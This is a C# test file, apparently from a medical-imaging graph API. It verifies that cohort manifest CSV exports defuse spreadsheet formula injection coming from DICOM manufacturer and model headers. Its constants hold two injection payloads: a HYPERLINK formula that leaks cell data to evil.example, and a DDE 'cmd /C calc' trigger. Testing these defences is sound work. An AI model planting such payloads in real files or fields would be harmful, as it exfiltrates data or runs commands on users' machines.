using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Graph.Api.Tests.Security;
using Graph.Domain;
using Graph.Store;
using Graph.Testing;
using Microsoft.Extensions.DependencyInjection;

namespace Graph.Api.Tests.Hardening;

/// <summary>A cohort manifest carries text a repository wrote (a series' manufacturer and model come from DICOM headers):
/// a modeller who opens the CSV in a spreadsheet must not run what a hostile header holds.</summary>
public sealed class ManifestFormulaTests : IAsyncLifetime
{
    private const string Manufacturer = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
    private const string Model = "@SUM(1+1)*cmd|' /C calc'!A0";

    private readonly GraphService _service = ConfiguredService.Create(new Dictionary<string, string>());
    private string _curator = "";

    public async Task InitializeAsync()
    {
        await _service.StartAsync();
        _curator = await TestKeys.CreateAsync(_service.DataDirectory, "curator");
    }

    public async Task DisposeAsync() => await _service.DisposeAsync();

    [Fact]
    public async Task Manifest_SeriesWithFormulaHeaders_CsvNeutralisedJsonAsWritten()
    {
        using var client = _service.CreateClient();
        client.DefaultRequestHeaders.Add(TestKeys.Header, _curator);
        var uid = (string)(await DataAsync(client, "{ series(first: 1) { nodes { seriesInstanceUid } } }", null))["series"]!["nodes"]![0]!["seriesInstanceUid"]!;
        await _service.Services.GetRequiredService<GraphWriter>().WriteAsync(
            new ChangeSet { Source = "test-harvest" }.Add(NodeRecord.Of(GraphModel.Series, uid, ("manufacturer", Manufacturer), ("model", Model))),
            CancellationToken.None);
        var id = (string)(await DataAsync(client, """
            mutation($uid: String!) { saveCohort(input: { name: "one series", criteria: { series: { seriesInstanceUid: { eq: $uid } } } }) { cohortId } }
            """, new { uid }))["saveCohort"]!["cohortId"]!;

        var csv = await client.GetStringAsync(new Uri($"/cohorts/{id}/manifest", UriKind.Relative));
        var row = Assert.Single(csv.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => l.StartsWith(uid, StringComparison.Ordinal));
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",", row, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", row, StringComparison.Ordinal);
        Assert.DoesNotContain(",@", row, StringComparison.Ordinal);

        var json = JsonNode.Parse(await client.GetStringAsync(new Uri($"/cohorts/{id}/manifest?format=json", UriKind.Relative)))!.AsArray();
        var entry = Assert.Single(json, r => (string?)r!["seriesInstanceUid"] == uid)!;
        Assert.Equal((Manufacturer, Model), ((string?)entry["manufacturer"], (string?)entry["model"]));
    }

    private static async Task<JsonNode> DataAsync(HttpClient client, string query, object? variables)
    {
        using var response = await client.PostAsJsonAsync(new Uri("/graphql", UriKind.Relative), new { query, variables });
        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
        Assert.True(body["errors"] is null, body.ToJsonString());
        return body["data"]!;
    }
}
